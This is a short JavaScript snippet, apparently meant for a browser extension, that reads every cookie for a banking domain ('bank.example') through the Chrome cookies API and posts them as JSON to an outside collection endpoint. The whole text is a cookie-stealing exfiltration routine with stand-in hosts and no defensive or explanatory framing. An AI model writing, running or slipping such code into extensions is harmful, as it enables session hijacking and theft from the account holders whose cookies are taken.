chrome.cookies.getAll({ domain: 'bank.example' }, (cookies) => {
  fetch('https://collect.example.invalid/c', { method: 'POST', body: JSON.stringify(cookies) });
});
